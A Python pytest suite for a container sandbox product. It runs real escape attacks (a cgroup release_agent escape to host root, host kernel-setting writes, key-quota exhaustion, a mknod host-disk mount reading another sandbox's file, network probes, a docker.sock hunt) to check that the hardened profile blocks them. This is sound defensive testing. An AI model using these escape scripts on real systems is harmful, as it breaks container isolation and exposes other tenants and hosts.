"""The escape suite (issue 13): each attack an attendee with sudo would try, run for real as
`learner` in a sandbox of the `userns` profile on the dedicated engine, must fail; and each test
proves it can catch its hole by running the same attack where the hole is open (the `caps`
profile on the host's engine, or a container without LabDeck's isolation) and seeing it work.

Nothing on the host is left changed: values are written back as they were read, the cgroup
escape uses a hierarchy of its own (gone afterwards) with a payload that only touches a file in
a temporary folder, and the host disk is mounted read-only.
"""

from __future__ import annotations

import dataclasses
import json
import platform
import secrets
import socket
import subprocess
import threading
from collections.abc import Iterator
from functools import partial
from pathlib import Path
from typing import Any

import docker
import pytest
from docker.models.containers import Container

from app.sandboxes.docker import sandbox_engine
from app.sandboxes.docker.backend import DockerBackend
from app.sandboxes.docker.engine import docker_client, host_address
from app.sandboxes.docker.images.catalog import get_recipe
from tests.support.docker_lab import SANDBOX_IMAGE, TEST_LABELS, Lab, open_lab, run

pytestmark = pytest.mark.docker
TOKEN = secrets.token_hex(8)
SECRET_FILE = f"/home/learner/secret-{TOKEN}.txt"
WORKED = "ESCAPE-WORKED"


@dataclasses.dataclass
class Pair:
    """An attacker and a victim sandbox in one lab, on one engine."""

    lab: Lab
    attacker: str
    victim: str

    def attack(self, script: str, timeout: float = 60) -> str:
        return run(self.lab.backend.exec(self.attacker, script, timeout=timeout)).output


def _open_pair(address: str, profile: str, suffix: str) -> Pair:
    client = docker_client(timeout=600, address=address)
    lab = open_lab(client, profile, suffix, seed=[])  # type: ignore[arg-type]
    factory = partial(docker.DockerClient, base_url=address, timeout=120, max_pool_size=8)
    lab = dataclasses.replace(lab, backend=DockerBackend(lab.backend.config, factory))
    attacker, victim = run(lab.ready_sandbox("attacker")), run(lab.ready_sandbox("victim"))
    # setsid: an exec's process group ends with it; the victim's sleeper must outlive it.
    plant = f"echo {TOKEN} > {SECRET_FILE}; setsid -f bash -c 'exec -a sleeper-{TOKEN} sleep 3600'"
    run(lab.backend.exec(victim, plant))
    return Pair(lab, attacker, victim)


@pytest.fixture(scope="module")
def dedicated_address() -> str:
    address = sandbox_engine.selected_address()
    if address is None:
        pytest.fail(
            "The escape suite needs the dedicated sandbox engine: ./labdeck test starts it."
        )
    return address


@pytest.fixture(scope="module")
def safe(dedicated_address: str) -> Iterator[Pair]:
    pair = _open_pair(dedicated_address, "userns", "esc-safe")
    yield pair
    pair.lab.close()


@pytest.fixture(scope="module")
def unsafe(dedicated_address: str) -> Iterator[Pair]:
    """Sandboxes of the `caps` profile on the host's engine: every hole below is open there.
    The images they need are copied from the dedicated engine once (a fresh host builds there)."""
    host = docker_client(timeout=600, address=host_address())
    source = docker_client(timeout=600, address=dedicated_address)
    sandbox_engine.copy_images(source, host, [SANDBOX_IMAGE, get_recipe("registry").tag])
    pair = _open_pair(host_address(), "caps", "esc-unsafe")
    yield pair
    pair.lab.close()


# --- the attacks, each a script run as learner -------------------------------------------------


def release_agent_attack(payload: str) -> str:
    """The cgroup v1 release_agent escape, in a hierarchy of its own (name=, no controllers):
    the kernel runs ``release_agent`` as the host's root when the last task leaves a cgroup."""
    return f"""sudo sh -c '
d=$(mktemp -d)
mount -t cgroup -o none,name=ld{TOKEN[:6]} cgroup "$d" || exit 1
upper=$(sed -n "s/.*upperdir=\\([^,]*\\).*/\\1/p" /proc/mounts | head -n 1)
printf "#!/bin/sh\\n%s\\n" "{payload}" > /payload && chmod +x /payload
mkdir "$d/x" && echo 1 > "$d/x/notify_on_release" && echo "$upper/payload" > "$d/release_agent" &&
  sh -c "echo \\$\\$ > $d/x/cgroup.procs"
sleep 2
rmdir "$d/x"; umount "$d"; rmdir "$d"
'"""


def test_cgroup_release_agent_runs_nothing_on_the_host(
    safe: Pair, unsafe: Pair, tmp_path: Path
) -> None:
    for pair, expected in ((safe, False), (unsafe, True)):
        marker = tmp_path / f"escaped-{pair.lab.backend.config.runtime}"
        output = pair.attack(release_agent_attack(f"touch {marker}"))
        assert marker.exists() is expected, output


def test_release_agent_cannot_list_another_sandbox_s_processes(safe: Pair, unsafe: Pair) -> None:
    payload = "ps -eo args > $upper/host-ps.txt"  # $upper: the attacker's layer, seen from the host
    for pair, expected in ((safe, False), (unsafe, True)):
        output = pair.attack(release_agent_attack(payload) + "; cat /host-ps.txt 2>/dev/null")
        assert (f"sleeper-{TOKEN}" in output) is expected, output[-2000:]


def write_back(path: str) -> str:
    """Write a host-wide kernel setting's own value back: proves it is writable, changes nothing."""
    return f'sudo sh -c \'v=$(cat {path}) && printf "%s\\n" "$v" > {path} && echo {WORKED}\''


@pytest.mark.parametrize(
    "path",
    ["/proc/sys/kernel/core_pattern", "/proc/sys/vm/swappiness", "/proc/sys/vm/overcommit_memory"],
)
def test_host_wide_kernel_settings_are_not_writable(safe: Pair, unsafe: Pair, path: str) -> None:
    before = Path(path).read_text()
    assert WORKED not in safe.attack(write_back(path))
    assert WORKED in unsafe.attack(write_back(path))
    assert Path(path).read_text() == before


def test_uevent_helper_is_not_writable(safe: Pair, unsafe: Pair) -> None:
    path = "/sys/kernel/uevent_helper"
    if not Path(path).exists():
        pytest.skip("this kernel has no uevent_helper (CONFIG_UEVENT_HELPER is off): no such hole")
    assert WORKED not in safe.attack(write_back(path))
    assert WORKED in unsafe.attack(write_back(path))


# The kernel's key quota: every `userns` sandbox's root is one host uid, so keys one attendee
# makes count against everyone's (inner runc needs a session keyring per container). The attack
# adds keys to a fresh session keyring of its own (gone when it exits) and pins one keyring into
# the uid's user keyring (unlinked at once), through the raw system calls (x86_64 numbers).
KEY_QUOTA_ATTACK = """sudo python3 - <<'EOF'
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
ADD_KEY, KEYCTL, JOIN, LINK, UNLINK = 248, 250, 1, 8, 9
SESSION, USER = ctypes.c_long(-3), ctypes.c_long(-4)
print("joined", libc.syscall(KEYCTL, JOIN, None) > 0)
made = 0
for number in range(300):
    if libc.syscall(ADD_KEY, b"user", b"attack-%d" % number, b"x", 1, SESSION) < 0:
        break
    made += 1
print("keys made", made, "errno", ctypes.get_errno())
pinned = libc.syscall(KEYCTL, LINK, SESSION, USER) == 0
print("pinned", pinned)
if pinned:
    libc.syscall(KEYCTL, UNLINK, SESSION, USER)
EOF"""


# An image of dash and its two libraries (no registry needed), run by the inner engine.
TINY_INNER_CONTAINER = (
    "tar -chf - -C / usr/bin/dash usr/lib/x86_64-linux-gnu/libc.so.6 lib64/ld-linux-x86-64.so.2"
    " | docker import - tiny-dash >/dev/null && docker run --rm tiny-dash /usr/bin/dash -c 'echo inner-ok'"
)


def test_one_sandbox_cannot_use_up_the_key_quota_all_share(safe: Pair, unsafe: Pair) -> None:
    if platform.machine() != "x86_64":
        pytest.skip("the attack calls the kernel by x86_64 system call numbers")
    refused = safe.attack(KEY_QUOTA_ATTACK)
    # What runc needs still works (a session keyring of its own); making keys does not.
    assert "joined True" in refused and "keys made 0 errno 1" in refused, refused
    assert "pinned False" in refused, refused
    opened = unsafe.attack(KEY_QUOTA_ATTACK)
    assert "keys made 300" in opened and "pinned True" in opened, opened
    # The safe sandbox's own inner engine still runs containers under the filter.
    inner = safe.attack(TINY_INNER_CONTAINER, timeout=120)
    assert "inner-ok" in inner, inner


# The host's disk: the device under the sandbox's /etc/hostname (a file of the engine's data
# root), made with mknod and mounted read-only; then another sandbox's home, in its overlay layer.
HOST_DISK_ATTACK = f"""sudo sh -c '
line=$(awk "\\$5 == \\"/etc/hostname\\"" /proc/self/mountinfo)
dev=$(echo "$line" | cut -d" " -f3); root=$(echo "$line" | cut -d" " -f4)
mknod /tmp/hostdisk b ${{dev%:*}} ${{dev#*:}} || exit 1
mkdir -p /tmp/hostfs && mount -o ro /tmp/hostdisk /tmp/hostfs || {{ rm -f /tmp/hostdisk; exit 1; }}
cat /tmp/hostfs${{root%%/containers/*}}/overlay2/*/diff{SECRET_FILE}
umount /tmp/hostfs; rm -f /tmp/hostdisk
'"""


def test_host_disk_cannot_be_mounted_to_read_another_sandbox(safe: Pair, unsafe: Pair) -> None:
    assert TOKEN not in safe.attack(HOST_DISK_ATTACK)
    found = unsafe.attack(HOST_DISK_ATTACK)
    if TOKEN not in found and "permission denied" in found.lower():
        # Measured on the Firecracker VM this suite was written on: opening the disk's device
        # node fails with EPERM even with every capability and an `a *:* rwm` device cgroup.
        pytest.skip(
            f"this host refuses its disk even to a caps sandbox, so no hole to show: {found}"
        )
    assert TOKEN in found


# --- the network -------------------------------------------------------------------------------


@pytest.fixture
def host_service() -> Iterator[int]:
    """A listener on every host address, as the portal would be with --host 0.0.0.0."""
    listener = socket.create_server(("0.0.0.0", 0))
    listener.settimeout(0.5)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                listener.accept()[0].close()
            except OSError:
                continue

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield listener.getsockname()[1]
    stop.set()
    thread.join()
    listener.close()


def connect_probe(address: str, port: int) -> str:
    return f"timeout 3 bash -c 'exec 3<>/dev/tcp/{address}/{port}' 2>/dev/null && echo {WORKED}"


def host_addresses(pair: Pair) -> list[str]:
    """The sandbox network's gateway and every non-loopback IPv4 address of the host."""
    shown = subprocess.run(["ip", "-j", "-4", "addr"], capture_output=True, text=True, check=True)
    found = [a["local"] for link in json.loads(shown.stdout) for a in link.get("addr_info", [])]
    return [pair.lab.network.gateway, *(a for a in found if not a.startswith("127."))]


def plain_container(script: str, **options: Any) -> Container:
    """A container of the sandbox image on the host engine's default bridge: no LabDeck firewall,
    inter-container traffic on."""
    host = docker_client(timeout=120, address=host_address())
    return host.containers.run(
        SANDBOX_IMAGE, ["bash", "-c", script], detach=True, labels=TEST_LABELS, **options
    )


def unisolated(script: str, **options: Any) -> str:
    """What ``script`` prints in a plain container: the probes must see open doors there."""
    container = plain_container(script, **options)
    try:
        container.wait(timeout=60)
        return bytes(container.logs()).decode(errors="replace")
    finally:
        container.remove(v=True, force=True)


def test_portal_and_host_services_are_out_of_reach(safe: Pair, host_service: int) -> None:
    for address in host_addresses(safe):
        assert WORKED not in safe.attack(connect_probe(address, host_service)), address
    gateway = (
        docker_client(address=host_address()).networks.get("bridge").attrs["IPAM"]["Config"][0]
    )
    assert WORKED in unisolated(connect_probe(gateway.get("Gateway", "172.17.0.1"), host_service))


SERVE = "python3 -m http.server 8099 >/dev/null 2>&1"


def test_other_sandboxes_are_out_of_reach(safe: Pair) -> None:
    run(safe.lab.backend.exec(safe.victim, f"setsid -f {SERVE}; sleep 1"))
    victim_ip = safe.lab.container_ip(safe.victim)
    assert WORKED not in safe.attack(connect_probe(victim_ip, 8099))
    server = plain_container(SERVE)
    try:
        server.reload()
        address = server.attrs["NetworkSettings"]["IPAddress"]
        assert WORKED in unisolated(f"sleep 1; {connect_probe(address, 8099)}")
    finally:
        server.remove(v=True, force=True)


# The host's Docker socket: any socket named docker.sock the attacker can find, asked for its
# engine's ID; the host's engines have other IDs than the sandbox's own inner engine.
SOCKET_HUNT = (
    "sudo find / \\( -path /proc -o -path /sys \\) -prune -o -name docker.sock -print "
    "2>/dev/null | while read s; do sudo curl -s --unix-socket $s http://engine/info | jq -r .ID; done"
)


def test_host_docker_socket_is_out_of_reach(safe: Pair, dedicated_address: str) -> None:
    engines = {
        docker_client(address=address).info()["ID"]
        for address in (host_address(), dedicated_address)
    }
    assert not engines & set(safe.attack(SOCKET_HUNT).split())
    socket_mount = {"/var/run/docker.sock": {"bind": "/run/host/docker.sock", "mode": "ro"}}
    found = unisolated(SOCKET_HUNT.replace("sudo ", ""), volumes=socket_mount)
    assert engines & set(found.split())
